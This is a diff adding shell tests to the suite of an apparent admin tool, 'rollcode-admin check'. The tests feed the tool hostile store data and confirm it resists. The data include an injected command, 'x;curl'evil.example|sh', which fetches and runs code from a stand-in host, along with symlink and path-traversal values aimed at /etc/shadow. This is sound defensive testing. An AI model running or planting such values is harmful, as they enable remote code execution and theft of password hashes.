@@ -832,6 +832,64 @@ feigned_folder() {
 	umount /tmp
 }
 
+# --- a child in the hands of somebody else -----------------------------------
+
+LYING=$BUILD/tests/tools/liblying.so
+
+# Whoever took the account over that owns the store.
+lies() {
+	local u=$T/store/users
+	restore
+	ln -s /etc/shadow "$u/link"
+	ln "$u/ann.db" "$u/twice"
+	chmod 644 "$u/ann.db" "$u/bob.db"
+	LD_PRELOAD=$LYING LIE="curl x x
+user-disabled x;curl'evil.example|sh x
+user-guarded --conf=/tmp/x x
+user-missing ann x
+store-place x /etc/shadow
+store-place x $u/../../../../../etc/shadow
+store-place x $u/link
+store-place x $u/ann.db
+store-place x $u/bob.db
+user-file ann $T/elsewhere" timeout 60 rollcode-admin check --json >"$T/json" \
+	    2>"$T/sum"
+	equal "what a store's account says is a command only if root makes it" \
+	    "$(python3 - "$T/json" <<-'PYTHON'
+	import json, sys
+	for f in json.load(open(sys.argv[1]))["findings"]:
+	    if "evil.example" in f["what"] or "curl" in str(f):
+	        print(f["name"], f["command"])
+	PYTHON
+	)" "user-disabled rollcode-admin enable 'x;curl'\\''evil.example|sh'
+user-guarded 
+user-missing 
+store-place 
+store-place 
+store-place 
+store-place 
+store-place chmod 600 $u/bob.db
+user-file "
+	refused "nor is it a fix" grep -qE '"fix": *"[^"]*evil' "$T/json"
+	rm "$u/twice"
+}
+
+# It takes as long as a server may, beside all other tests.
+hang_begin() {
+	stack plain "auth required pam_unix.so"
+	LD_PRELOAD=$LYING LIE=hang start rollcode-admin check --service plain \
+	    >"$T/hang" 2>&1
+	hanging=$started
+	wait_for pgrep -u rollcode rollcode-admin
+}
+
+hang_end() {
+	wait "$hanging"
+	equal "a store that never answers ends nothing: the status is 1" "$?" 1
+	check "and that is found" grep -q "did not end well" "$T/hang"
+	refused "and nothing of it stays" pgrep -u rollcode rollcode-admin
+}
+
 hostile() {
 	local i
 	restore
@@ -856,6 +914,7 @@ hostile() {
 }
 
 arrange
+[ "$long" = long ] || hang_begin
 right
 env_file
 store_cases
@@ -883,4 +942,6 @@ json
 standins
 feigned_folder
 hostile
+lies
+hang_end
 exit 0
